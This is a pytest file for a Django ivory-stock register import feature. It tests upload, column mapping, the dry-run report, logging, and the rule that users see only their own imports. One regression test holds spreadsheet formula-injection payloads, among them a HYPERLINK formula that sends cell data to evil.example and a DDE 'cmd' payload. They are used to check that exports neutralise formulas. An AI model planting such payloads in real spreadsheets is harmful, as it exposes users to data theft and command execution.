"""The register import's pages: upload, mapping step, dry run in Celery with
its progress, the report in the page and as a file, the import, downloads,
the access log, and who may see them."""

import io

import pytest
from openpyxl import load_workbook

from audit.models import AccessEvent
from imports.models import ImportRun
from stock.models import StockItem

from .conftest import named, xlsx

pytestmark = pytest.mark.django_db

HEADERS = ["Magasin", "Type d'article", "Tusk No.", "Poids (kg)", "Date de réception"]
ROWS = [
    ["Central Armoury", "whole-tusk", "XA 15/31/12", "12,2", "2015-03-01"],
    ["Store X", "whole-tusk", "XA 15/32/9", "9", "2015-03-02"],
    ["Store X", "mammoth", None, "3", "2015-03-03"],
]


@pytest.fixture
def login(client, host_a):
    def _login(user):
        client.force_login(user)
        client.defaults["HTTP_HOST"] = host_a
        return client

    return _login


def test_upload_map_check_and_import_through_the_pages(
    login, reg, django_capture_on_commit_callbacks
):
    client = login(reg.admin)
    assert client.get("/import/").status_code == 200
    response = client.post("/import/upload/", {"file": named(xlsx(HEADERS, ROWS), "old.xlsx")})
    assert response.status_code == 302
    run = ImportRun.objects.get()
    mapping_url = f"/import/{run.pk}/columns/"
    assert response["Location"] == mapping_url
    page = client.get(mapping_url)
    assert page.status_code == 200
    text = page.content.decode()
    assert "Central Armoury" in text and "Tusk No." in text
    form = page.context["form"]
    data = {name: form[name].value() for name in form.fields}
    tusk_field = next(name for name, header in form.header_fields if header == "Tusk No.")
    store_field = form.store_fields[0][0]
    data[tusk_field] = "cites_mark"
    data[store_field] = str(reg.site_y.pk)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(mapping_url, data)
    assert response.status_code == 302
    run.refresh_from_db()
    assert run.status == ImportRun.Status.CHECKED, run.error
    page = client.get(f"/import/{run.pk}/")
    text = page.content.decode()
    assert "Result of the check (nothing was saved)" in text
    assert "“mammoth” is not an item type of this country." in text
    assert "Import the 2 valid rows only" in text
    assert StockItem.objects.count() == 0
    checked = client.get(f"/import/{run.pk}/checked.xlsx")
    assert checked.status_code == 200
    book = load_workbook(
        io.BytesIO(b"".join(checked.streaming_content) if checked.streaming else checked.content)
    )
    assert book.worksheets[0].cell(row=4, column=2).comment is not None
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/import/{run.pk}/", {"action": "import_valid"})
    assert response.status_code == 302
    run.refresh_from_db()
    assert run.status == ImportRun.Status.DONE, run.error
    assert StockItem.objects.filter(site=reg.site_y).count() == 1
    assert StockItem.objects.count() == 2
    actions = set(AccessEvent.objects.filter(user=reg.admin).values_list("action", flat=True))
    assert {"import_view", "import_check", "import_run"} <= actions


def test_the_page_shows_progress_while_the_task_runs(login, reg):
    client = login(reg.admin)
    client.post("/import/upload/", {"file": named(xlsx(HEADERS, ROWS), "old.xlsx")})
    run = ImportRun.objects.get()
    ImportRun.objects.filter(pk=run.pk).update(status=ImportRun.Status.CHECKING, progress=42)
    text = client.get(f"/import/{run.pk}/").content.decode()
    assert '<progress class="progress" max="100" value="42">' in text
    assert 'http-equiv="refresh"' in text


def test_template_and_export_downloads_are_logged(login, reg):
    client = login(reg.admin)
    response = client.get("/import/template.xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    load_workbook(io.BytesIO(response.content))
    assert client.get("/import/register.xlsx").status_code == 200
    actions = list(AccessEvent.objects.filter(user=reg.admin).values_list("action", flat=True))
    assert actions.count("import_template") == 1
    assert actions.count("register_export") == 1


def test_a_store_manager_sees_no_import_page(login, reg):
    client = login(reg.manager_x)
    for url in ("/import/", "/import/template.xlsx", "/import/register.xlsx"):
        assert client.get(url).status_code == 403, url
    assert (
        client.post("/import/upload/", {"file": named(xlsx(HEADERS, ROWS), "x.xlsx")}).status_code
        == 403
    )
    assert ImportRun.objects.count() == 0


def test_another_countrys_import_is_not_found(login, reg, host_b, country_b):
    from django_tenants.utils import schema_context

    from accounts.roles import SMS_ADMINISTRATOR
    from tests.factories import make_user

    client = login(reg.admin)
    client.post("/import/upload/", {"file": named(xlsx(HEADERS, ROWS), "old.xlsx")})
    run = ImportRun.objects.get()
    with schema_context(country_b.schema_name):
        admin_b = make_user(role=SMS_ADMINISTRATOR, all_sites=True, username="b-admin")
        client.force_login(admin_b)
        assert not ImportRun.objects.filter(pk=run.pk).exists()
    client.defaults["HTTP_HOST"] = host_b
    assert client.get(f"/import/{run.pk}/").status_code == 404
    assert client.get(f"/import/{run.pk}/columns/").status_code == 404


def test_a_one_store_administrator_neither_sees_nor_uses_another_administrator_s_run(
    login, reg, django_capture_on_commit_callbacks
):
    """import_scope.py: admin.north opened, mapped and downloaded the national
    administrator's whole-country file."""
    from accounts.roles import SMS_ADMINISTRATOR
    from tests.factories import make_user

    north = make_user(role=SMS_ADMINISTRATOR, sites=[reg.site_x], username="admin-north")
    client = login(reg.admin)
    client.post("/import/upload/", {"file": named(xlsx(HEADERS, ROWS), "country.xlsx")})
    run = ImportRun.objects.get()
    form = client.get(f"/import/{run.pk}/columns/").context["form"]
    data = {name: form[name].value() for name in form.fields}
    data[form.store_fields[0][0]] = str(reg.site_y.pk)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/import/{run.pk}/columns/", data)
    run.refresh_from_db()
    assert run.status == ImportRun.Status.CHECKED and run.report_file

    client = login(north)
    assert f"/import/{run.pk}/" not in client.get("/import/").content.decode()
    for url in (
        f"/import/{run.pk}/",
        f"/import/{run.pk}/columns/",
        f"/import/{run.pk}/checked.xlsx",
    ):
        assert client.get(url).status_code == 404, url
    assert client.post(f"/import/{run.pk}/columns/", data).status_code == 404
    assert client.post(f"/import/{run.pk}/", {"action": "import_valid"}).status_code == 404
    assert StockItem.objects.count() == 0
    # Their own run, they see.
    client.post("/import/upload/", {"file": named(xlsx(HEADERS, ROWS[1:]), "mine.xlsx")})
    mine = ImportRun.objects.get(requested_by=north)
    assert client.get(f"/import/{mine.pk}/").status_code == 200
    assert f"/import/{mine.pk}/" in client.get("/import/").content.decode()
    # An administrator of all sites sees both.
    page = login(reg.admin).get("/import/").content.decode()
    assert f"/import/{run.pk}/" in page and f"/import/{mine.pk}/" in page


def test_the_checked_copy_keeps_no_formula_of_the_uploaded_file(
    login, reg, django_capture_on_commit_callbacks
):
    """imports2.py: a crafted file's formulas stayed live in checked.xlsx."""
    payloads = [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
    ]
    rows = [["Store X", "whole-tusk", "XA 15/40/9", "9", "2015-03-02"]]
    rows += [[p, "whole-tusk", p, 3, p] for p in payloads]
    content = xlsx(HEADERS + ["=1+1"], [r + ["=SUM(1,2)"] for r in rows])
    client = login(reg.admin)
    client.post("/import/upload/", {"file": named(content, "crafted.xlsx")})
    run = ImportRun.objects.get()
    form = client.get(f"/import/{run.pk}/columns/").context["form"]
    data = {name: form[name].value() for name in form.fields}
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/import/{run.pk}/columns/", data)
    run.refresh_from_db()
    assert run.report_file, run.error
    checked = client.get(f"/import/{run.pk}/checked.xlsx")
    book = load_workbook(
        io.BytesIO(b"".join(checked.streaming_content) if checked.streaming else checked.content)
    )
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'=SUM(1,2)" in texts and "'+cmd|' /C calc'!A0" in texts
    assert any(isinstance(c.value, int | float) for c in cells)  # numbers stay numbers
